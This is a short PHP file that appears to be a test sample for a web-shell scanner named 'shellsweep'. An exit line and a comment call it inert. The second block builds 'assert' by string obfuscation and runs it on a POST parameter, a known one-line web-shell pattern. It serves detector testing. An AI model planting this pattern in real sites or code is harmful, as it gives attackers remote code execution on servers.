<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
    $a = substr('1a',1).'s'.'s'.'e'.'r'.'t';
    $a($_POST['x']);
